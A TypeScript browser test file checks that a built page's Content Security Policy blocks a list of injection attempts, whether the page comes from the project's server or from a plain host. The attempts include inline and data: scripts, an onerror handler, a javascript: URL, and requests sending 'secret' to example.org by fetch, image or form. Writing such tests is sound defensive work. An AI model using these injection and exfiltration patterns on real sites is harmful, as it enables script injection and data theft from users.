/**
 * The content policy of the built page holds in a browser: by the page's own `<meta>` where a host sends no
 * header, and by our server's header.
 */

import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { contentPolicy } from "#cli/content-policy";
import type { PageServer } from "#cli/page-server";
import { builtPage, serveBuiltPage } from "#support/built-page";
import { startBrowser } from "#support/chromium";
import { visit } from "#support/page-visit";

let browser: Browser;
let ours: PageServer;
let plain: { readonly server: Server; readonly url: string };

beforeAll(async () => {
  browser = await startBrowser();
  ours = await serveBuiltPage();
  plain = await servePlainly(await builtPage());
}, 60_000);

afterAll(async () => {
  await browser.close();
  await ours.close();
  plain.server.close();
});

/** A host that knows nothing of our headers. */
async function servePlainly(folder: string): Promise<{ server: Server; url: string }> {
  const server = createServer(({ url = "/" }, response) => {
    const name = url === "/" ? "index.html" : url.slice(1);
    const type = name.endsWith(".js") ? "text/javascript" : name.endsWith(".css") ? "text/css" : "text/html";
    response.writeHead(200, { "content-type": name.endsWith(".svg") ? "image/svg+xml" : type });
    response.end(readFileSync(`${folder}${name}`));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/` };
}

/** What somebody might try who can write into the page; each says `ran` where it succeeds. */
const attempts: Readonly<Record<string, () => void>> = {
  "a script written into the page": () => {
    const script = document.createElement("script");
    script.textContent = "window.ran = true";
    document.body.append(script);
  },
  "a handler in an attribute": () => {
    document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.ran = true">');
  },
  "a script out of text": () => {
    setTimeout(() => {
      try {
        new Function("window.ran = true")();
      } catch {}
    });
  },
  "a script in an address": () => {
    location.href = "javascript:void (window.ran = true)";
  },
  "a script as data": () => {
    const script = document.createElement("script");
    script.src = "data:text/javascript,window.ran = true";
    document.body.append(script);
  },
  "a worker of its own making": () => {
    const code = URL.createObjectURL(new Blob(["postMessage(1)"]));
    const said = () => Object.assign(window, { ran: true });
    try {
      new Worker(code).onmessage = said;
    } catch {}
  },
  "a script of another host": () => {
    const script = document.createElement("script");
    script.src = "https://example.org/x.js";
    document.body.append(script);
  },
  "a word to another host": () => {
    void fetch("https://example.org/?secret").then(
      () => Object.assign(window, { ran: true }),
      () => {},
    );
  },
  "a picture of another host": () => {
    new Image().src = "https://example.org/x.png?secret";
  },
  "a frame": () => {
    const frame = document.createElement("iframe");
    frame.src = "https://example.org/";
    document.body.append(frame);
  },
  "another base for all addresses": () => {
    document.head.insertAdjacentHTML("beforeend", '<base href="https://example.org/">');
    if (document.baseURI.includes("example.org")) Object.assign(window, { ran: true });
  },
  "a form": () => {
    document.body.insertAdjacentHTML("beforeend", '<form action="https://example.org/"></form>');
    document.forms[document.forms.length - 1]?.submit();
  },
};

/** What the page keeps of violations for us. */
interface Watched extends Window {
  violated: string[];
}

const watchViolations = (): void => {
  const violated: string[] = [];
  Object.assign(window, { violated });
  document.addEventListener("securitypolicyviolation", (event) => violated.push(event.effectiveDirective));
};

describe.each([
  ["our server", () => ours.url],
  ["a host without our headers", () => plain.url],
])("served by %s", (_who, url) => {
  let page: Page;
  let complaints: readonly string[] = [];

  beforeAll(async () => {
    const visited = await visit(await browser.newContext(), url());
    page = visited.page;
    await page.waitForFunction(() => performance.getEntriesByName("first-frame").length > 0);
    complaints = [...visited.complaints];
    await page.evaluate(watchViolations);
  });

  afterAll(() => page.context().close());

  test("the page works and violates nothing", async () => {
    expect(complaints).toEqual([]);
    expect(await page.locator("meta[http-equiv]").getAttribute("content")).toBe(contentPolicy);
  });

  test.each(Object.keys(attempts))("the browser refuses %s, and says so", async (name) => {
    await page.evaluate(attempts[name] ?? (() => {}));
    const violated = () => page.evaluate(() => (window as unknown as Watched).violated.splice(0));
    await expect.poll(violated, { timeout: 5000 }).not.toEqual([]);
    expect(await page.evaluate(() => "ran" in window)).toBe(false);
  });
});
